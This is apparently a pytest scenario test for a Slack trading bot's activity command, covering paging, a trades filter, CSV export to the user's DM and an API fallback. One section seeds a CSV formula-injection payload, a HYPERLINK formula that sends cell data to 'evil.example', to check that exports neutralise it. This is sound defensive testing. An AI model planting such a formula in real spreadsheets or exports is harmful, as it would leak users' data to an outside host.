"""`/autoshares activity` end to end, after an order has filled: the pages, Previous/Next in
place, the trades filter and Export CSV to the asker's DM, each figure held against what the
sandbox itself recorded (its admin list of transactions)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from typing import Any

from bot.devkit.localslack import ScriptedFailure
from tests.conftest import RunningBot
from tests.scenario.steps import action_ids, button, click, command

BOB, BOB_ACCOUNT = "U0BOB", 5002


def dollars(value: float) -> str:
    """A signed amount as the messages write it (``+$1.00``, ``-$600.00``)."""
    return f"{'+' if value > 0 else '-' if value < 0 else ''}${abs(value):,.2f}"


def amounts(message: dict[str, Any]) -> list[str]:
    return re.findall(r"amount ([+-]?\$[\d,.]+)", str(message["blocks"]))


async def recorded(bot: RunningBot) -> list[dict[str, Any]]:
    """Bob's account's transactions this year as the sandbox keeps them, newest first."""
    everything = await bot.admin("GET", "_sandbox/transactions")
    year = f"{datetime.now(UTC).year}-01-01"  # ytd: the seeded history may be last year's
    mine = [t for t in everything if t["AccountId"] == BOB_ACCOUNT and t["Date"] >= year]
    return sorted(mine, key=lambda t: (t["Date"], t["Id"]), reverse=True)


async def test_activity_after_a_fill_pages_filters_and_exports_what_the_sandbox_recorded(bot: RunningBot) -> None:
    await bot.link(BOB, "bob")
    await bot.admin("POST", "_sandbox/prices", json={"Symbol": "AAPL", "Last": 200.0, "Bid": 199.9, "Ask": 200.0})
    await click(bot, button(await command(bot, "order buy 3 AAPL", user=BOB), "order_confirm"), user=BOB)
    [order] = await bot.admin("GET", "_sandbox/orders")
    assert (order["Status"], order["ExecutedQuantity"]) == ("Filled", 3)
    for cents in range(9):
        dividend = {"AccountId": BOB_ACCOUNT, "Kind": "Dividend", "Amount": 1 + cents / 100, "Symbol": "AAPL"}
        await bot.admin("POST", "_sandbox/transactions", json=dividend)
    await bot.admin("POST", "_sandbox/transactions", json={"AccountId": BOB_ACCOUNT, "Kind": "Fee", "Amount": 2.5})
    kept = await recorded(bot)
    [fill] = [t for t in kept if t["Type"] == "OrderExecution"]
    assert (fill["OrderId"], fill["Quantity"], fill["Price"]) == (order["Id"], 3, order["AveragePrice"])
    assert len(kept) > 10  # more than one page of ten

    first = await command(bot, "activity ytd", user=BOB)
    text = str(first["blocks"])
    assert f"{len(kept)} entries, page 1 of 2" in text
    assert amounts(first) == [dollars(t["Value"]) for t in kept[:10]]
    assert action_ids(first) == ["activity_next", "activity_export"]

    second = await click(bot, button(first, "activity_next"), user=BOB)
    assert second["replace_original"] is True and "page 2 of 2" in str(second["blocks"])
    assert amounts(second) == [dollars(t["Value"]) for t in kept[10:]]
    back = await click(bot, button(second, "activity_previous"), user=BOB)
    assert amounts(back) == amounts(first)

    trades = await command(bot, "activity trades 7d", user=BOB)
    assert amounts(trades) == [dollars(fill["Value"])]
    assert f"Bought 3 sh @ ${fill['Price']:,.2f}" in str(trades["blocks"]) and "1 entry, page 1 of 1" in str(trades["blocks"])

    sent = await click(bot, button(trades, "activity_export"), user=BOB)
    assert "is in your direct messages" in str(sent["blocks"]) and "activity-7d-trades" in str(sent["blocks"])
    [opened] = bot.slack.by_method("conversations.open")
    assert opened.args["users"] == BOB
    [completed] = bot.slack.by_method("files.completeUploadExternal")
    assert completed.args["channel_id"] == opened.answer["channel"]["id"]  # type: ignore[index]
    report = list(csv.DictReader(io.StringIO(bot.slack.uploads[completed.args["files"][0]["id"]].decode())))
    assert [(r["Type"], float(r["Quantity"]), float(r["Value"])) for r in report] == [
        ("OrderExecution", fill["Quantity"], fill["Value"])
    ]
    bot.slack.fail_next("conversations.open", ScriptedFailure("missing_scope"))
    refused = await click(bot, button(trades, "activity_export"), user=BOB)
    assert "I could not send the report to your direct messages (missing_scope)" in str(refused["blocks"])
    assert len(bot.slack.by_method("files.completeUploadExternal")) == 1  # nothing more was uploaded

    # Text AutoShares wrote never runs as a spreadsheet formula; amounts stay numbers.
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
    fee = {"AccountId": BOB_ACCOUNT, "Kind": "Fee", "Amount": 1.25, "Description": hostile}
    await bot.admin("POST", "_sandbox/transactions", json=fee)
    fees = await command(bot, "activity fees 7d", user=BOB)
    assert "&amp;A1" in str(fees["blocks"])  # shown escaped
    await click(bot, button(fees, "activity_export"), user=BOB)
    upload = bot.slack.by_method("files.completeUploadExternal")[-1].args["files"][0]["id"]
    rows = list(csv.DictReader(io.StringIO(bot.slack.uploads[upload].decode())))
    assert [r["Description"] for r in rows if "HYPERLINK" in r["Description"]] == ["'" + hostile]
    assert {r["Value"] for r in rows} == {"-1.25", "-2.5"}

    # A deployment without the activity form answers 404: the transactions form is asked instead.
    await bot.admin("POST", "_sandbox/faults", json={"Rewrite": {"GET /v1.0/accounts/5002/activity": {"_status": 404}}})
    again = await command(bot, "activity trades 7d", user=BOB)
    asked = (await bot.admin("GET", "_sandbox/stats"))["ApiRequests"]
    await bot.admin("POST", "_sandbox/faults", json={"Clear": True})
    assert amounts(again) == amounts(trades) and asked["GET /v1.0/accounts/{accountId}/transactions"] == 1
